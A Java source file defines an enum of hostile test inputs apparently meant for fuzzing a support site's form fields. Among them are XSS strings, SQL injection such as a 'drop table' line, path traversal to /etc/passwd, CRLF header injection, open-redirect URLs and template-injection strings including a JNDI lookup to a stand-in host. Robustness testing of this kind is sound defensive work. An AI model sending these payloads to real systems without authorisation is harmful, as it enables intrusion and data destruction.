package nl.steunpunt.rules;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** What nobody should type, send or paste, and somebody does. Made from a seed that is printed. */
enum Nasty {
  NOTHING(random -> ""),
  BLANK(random -> " \t\u00a0\u3000\u200b ".repeat(1 + random.nextInt(5))),
  NONSENSE(random -> letters(random, 8)),
  TOO_LONG(random -> "Veel te lang, " + letters(random, 10_001 + random.nextInt(20_000))),
  CONTROL(random -> "a\u0000b\u0007c\u001b[31m\u0085" + letters(random, 5) + "\ufeff\u2028\uffff"),
  TURNED(random -> "\u202e" + letters(random, 9) + "\u2066gnp.exe\u202a\u200f"),
  HALF(random -> random.nextBoolean() ? "half \ud83d hier" : "\ude00 half"),
  HTML(random ->
      pick(
          random,
          "<script id=" + Nasty.MARK + ">alert(1)</script>",
          "\"'><b id=\"" + Nasty.MARK + "\" onmouseover=\"alert(1)\">",
          "</textarea></title></option><img id=" + Nasty.MARK + " src=x onerror=alert(1)>",
          "<!--><svg id=" + Nasty.MARK + " onload=alert(1)>",
          "javascript:alert('" + Nasty.MARK + "')")),
  SQL(random ->
      pick(
          random,
          "'; drop table support.question; --",
          "%' or 1=1 --",
          "\\'); select pg_sleep(9); --",
          "$$; $1 :name ?::int",
          "{1,2}",
          "a & | ! ( :* <->")),
  EMOJI(
      random -> "👩‍👩‍👧‍👦🏳️‍🌈🇳🇱".repeat(1 + random.nextInt(9)) + "Z" + "\u0300".repeat(300)),
  NUMBER(random ->
      pick(
          random,
          "-1",
          "0",
          "99999999999999999999999",
          "1e400",
          "NaN",
          "0x10",
          "١٢",
          "-9223372036854775808",
          "2147483648",
          "1.5")),
  MOMENT(random ->
      pick(
          random,
          "2026-02-30",
          "+999999999-12-31",
          "-999999999-01-01",
          "0000-00-00T25:61Z",
          "9999-12-31T23:59",
          "1500-01-01",
          "+1000000000-01-01T00:00:00Z")),
  PLACE(random ->
      pick(
          random,
          "../../../../etc/passwd",
          "..\\..\\boot.ini",
          "%00",
          "file:///etc/passwd",
          "CON")),
  LINES(random -> "x\r\nSet-Cookie: " + Nasty.MARK + "=1\r\n\r\n<html>" + letters(random, 4)),
  ELSEWHERE(random ->
      pick(
          random,
          "https://elsewhere.example/",
          "//elsewhere.example/",
          "/\\elsewhere.example/",
          "/\t/elsewhere.example/",
          "https:elsewhere.example",
          "///elsewhere.example")),
  FORMULA(random ->
      pick(
          random,
          "${7*7}",
          "{0} {1,choice,0#x}",
          "'{'%s%n%1$s",
          "#{T(java.lang.Runtime).getRuntime()}",
          "=HYPERLINK(\"https://elsewhere.example\")",
          "${jndi:ldap://elsewhere.example/a}"));

  /** Stands in no page as markup, a header or a cookie of ours. */
  static final String MARK = "strangers-mark";

  /** Another one: -Dsteunpunt.seed=7 */
  static final long SEED = Long.getLong("steunpunt.seed", 20261124L);

  private static final boolean ALL = "all".equals(System.getProperty("steunpunt.nasty"));
  private static final List<Nasty> ALWAYS = List.of(TOO_LONG, CONTROL, HTML);

  private final Function<Random, String> made;

  Nasty(Function<Random, String> made) {
    this.made = made;
  }

  String text(Random random) {
    return made.apply(random);
  }

  /** The same each time for the same place. */
  static Random at(String place) {
    return new Random(SEED * 31 + place.hashCode());
  }

  /**
   * For a field of this type: of a text half of all kinds, others at each place; of what is no text
   * those that make a difference. With -Dsteunpunt.nasty=all: all of them, in a quarter of an hour.
   */
  static List<Nasty> of(Class<?> type, Random random) {
    if (ALL) {
      return List.of(values());
    }
    if (type != String.class) {
      return List.of(NONSENSE, CONTROL, NUMBER, MOMENT);
    }
    var some = new ArrayList<>(List.of(values()));
    some.removeAll(ALWAYS);
    Collections.shuffle(some, random);
    return Stream.concat(ALWAYS.stream(), some.stream().limit(5)).toList();
  }

  private static String letters(Random random, int count) {
    return random
        .ints(count, 0, 30)
        .mapToObj(letter -> letter < 26 ? String.valueOf((char) ('a' + letter)) : " ")
        .collect(Collectors.joining());
  }

  private static String pick(Random random, String... of) {
    return of[random.nextInt(of.length)];
  }
}
